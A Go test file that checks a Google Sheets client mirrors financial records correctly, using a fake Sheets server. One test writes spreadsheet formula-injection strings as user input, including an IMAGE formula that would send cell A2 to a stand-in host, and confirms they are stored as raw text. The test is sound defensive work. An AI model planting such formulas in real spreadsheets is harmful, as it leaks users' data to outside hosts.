package google

import (
	"context"
	"encoding/json"
	"fmt"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"github.com/shopspring/decimal"
	goption "google.golang.org/api/option"
	gsheet "google.golang.org/api/sheets/v4"

	"pocketflow/internal/core"
)

// fakeSheet implements just enough of the Sheets v4 REST surface for one sheet.
type fakeSheet struct {
	mu    sync.Mutex
	rows  [][]any
	calls []string
	// valueInputOption of every write
	inputs []string
}

func (f *fakeSheet) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	f.mu.Lock()
	defer f.mu.Unlock()

	path := strings.TrimPrefix(r.URL.Path, "/v4/spreadsheets/sid")
	f.calls = append(f.calls, r.Method+" "+path)
	if opt := r.URL.Query().Get("valueInputOption"); opt != "" {
		f.inputs = append(f.inputs, opt)
	}
	w.Header().Set("Content-Type", "application/json")

	switch {
	case path == "" && r.Method == http.MethodGet:
		fmt.Fprint(w, `{"sheets":[{"properties":{"title":"Records","sheetId":7}}]}`)
	case path == ":batchUpdate":
		var req gsheet.BatchUpdateSpreadsheetRequest
		_ = json.NewDecoder(r.Body).Decode(&req)
		dr := req.Requests[0].DeleteDimension.Range
		if int(dr.StartIndex) < len(f.rows) {
			f.rows = append(f.rows[:dr.StartIndex], f.rows[dr.EndIndex:]...)
		}
		fmt.Fprint(w, `{}`)
	case strings.HasSuffix(path, ":append"):
		var vr gsheet.ValueRange
		_ = json.NewDecoder(r.Body).Decode(&vr)
		f.rows = append(f.rows, vr.Values[0])
		n := len(f.rows)
		fmt.Fprintf(w, `{"updates":{"updatedRange":"Records!A%d:G%d"}}`, n, n)
	case strings.HasPrefix(path, "/values/") && r.Method == http.MethodPut:
		var vr gsheet.ValueRange
		_ = json.NewDecoder(r.Body).Decode(&vr)
		n := firstRow(strings.TrimPrefix(path, "/values/"))
		for len(f.rows) < n {
			f.rows = append(f.rows, []any{})
		}
		f.rows[n-1] = vr.Values[0]
		fmt.Fprint(w, `{}`)
	case strings.HasPrefix(path, "/values/"):
		rng := strings.TrimPrefix(path, "/values/")
		var out [][]any
		if strings.HasSuffix(rng, "!A:A") {
			for _, row := range f.rows {
				if len(row) == 0 {
					out = append(out, []any{})
					continue
				}
				out = append(out, []any{row[0]})
			}
		} else if n := firstRow(rng); n > 0 && n <= len(f.rows) && len(f.rows[n-1]) > 0 {
			out = [][]any{f.rows[n-1]}
		}
		_ = json.NewEncoder(w).Encode(map[string]any{"range": rng, "values": out})
	default:
		http.Error(w, "unexpected "+r.Method+" "+path, http.StatusNotFound)
	}
}

func firstRow(rng string) int {
	n, err := rowFromRange(rng)
	if err != nil {
		return 0
	}
	return n
}

func newFakeClient(t *testing.T) (*Client, *fakeSheet) {
	t.Helper()
	fake := &fakeSheet{}
	srv := httptest.NewServer(fake)
	t.Cleanup(srv.Close)

	svc, err := gsheet.NewService(context.Background(),
		goption.WithEndpoint(srv.URL+"/"),
		goption.WithoutAuthentication(),
		goption.WithHTTPClient(srv.Client()))
	if err != nil {
		t.Fatalf("new service: %v", err)
	}
	return newWithService(svc, Config{SpreadsheetID: "sid", SheetName: "Records"}), fake
}

func record(id, amount string) core.FinancialRecord {
	return core.FinancialRecord{
		ID:            id,
		OwnerID:       "u1",
		Date:          time.Date(2025, 5, 1, 0, 0, 0, 0, time.UTC),
		Description:   "Item " + id,
		Amount:        decimal.RequireFromString(amount),
		Category:      "General",
		PaymentMethod: "Cash",
	}
}

func TestClientMirrorsRecords(t *testing.T) {
	ctx := context.Background()
	c, fake := newFakeClient(t)

	if err := c.EnsureHeader(ctx); err != nil {
		t.Fatalf("ensure header: %v", err)
	}
	for i := 1; i <= 3; i++ {
		if err := c.Upsert(ctx, record("r"+strconv.Itoa(i), "-1")); err != nil {
			t.Fatalf("upsert r%d: %v", i, err)
		}
	}
	if len(fake.rows) != 4 || fake.rows[0][0] != "ID" {
		t.Fatalf("unexpected rows %v", fake.rows)
	}

	if err := c.Upsert(ctx, record("r2", "-7.5")); err != nil {
		t.Fatalf("update r2: %v", err)
	}
	if fake.rows[2][4] != -7.5 || len(fake.rows) != 4 {
		t.Fatalf("r2 not updated in place: %v", fake.rows)
	}

	if err := c.Remove(ctx, "r2"); err != nil {
		t.Fatalf("remove r2: %v", err)
	}
	if len(fake.rows) != 3 || fake.rows[2][0] != "r3" {
		t.Fatalf("unexpected rows after delete %v", fake.rows)
	}

	// r3 moved up a row; the stale cached position must not be used.
	if err := c.Upsert(ctx, record("r3", "3")); err != nil {
		t.Fatalf("update r3: %v", err)
	}
	if fake.rows[2][4] != 3.0 || len(fake.rows) != 3 {
		t.Fatalf("r3 not updated at its new row: %v", fake.rows)
	}

	if err := c.Remove(ctx, "missing"); err != nil {
		t.Fatalf("removing a missing record should succeed: %v", err)
	}
}

func TestEnsureHeaderKeepsExistingHeader(t *testing.T) {
	c, fake := newFakeClient(t)
	fake.rows = [][]any{{"Custom"}}
	if err := c.EnsureHeader(context.Background()); err != nil {
		t.Fatalf("ensure header: %v", err)
	}
	if fake.rows[0][0] != "Custom" {
		t.Fatalf("header overwritten: %v", fake.rows)
	}
}

func TestUserTextIsWrittenVerbatim(t *testing.T) {
	ctx := context.Background()
	c, fake := newFakeClient(t)
	if err := c.EnsureHeader(ctx); err != nil {
		t.Fatal(err)
	}

	r := record("12345", "10")
	r.Description = "=1+1"
	r.Category = `=IMAGE("https://x.test/?"&A2)`
	r.PaymentMethod = "+SUM(E:E)"
	if err := c.Upsert(ctx, r); err != nil {
		t.Fatalf("append: %v", err)
	}
	r.Description = "=HYPERLINK(\"https://x.test\")"
	if err := c.Upsert(ctx, r); err != nil {
		t.Fatalf("update: %v", err)
	}

	if len(fake.inputs) != 3 {
		t.Fatalf("expected header, append and update writes, got %v", fake.inputs)
	}
	for _, opt := range fake.inputs {
		if opt != "RAW" {
			t.Fatalf("cells written with %s, want RAW", opt)
		}
	}
	row := fake.rows[1]
	if row[0] != "12345" || row[3] != r.Description || row[4] != 10.0 {
		t.Fatalf("unexpected row %v", row)
	}
	if row[5] != `=IMAGE("https://x.test/?"&A2)` || row[6] != "+SUM(E:E)" {
		t.Fatalf("tags altered: %v", row)
	}

	// the all-digit id stays findable
	if err := c.Remove(ctx, "12345"); err != nil {
		t.Fatal(err)
	}
	if len(fake.rows) != 1 {
		t.Fatalf("row not removed: %v", fake.rows)
	}
}
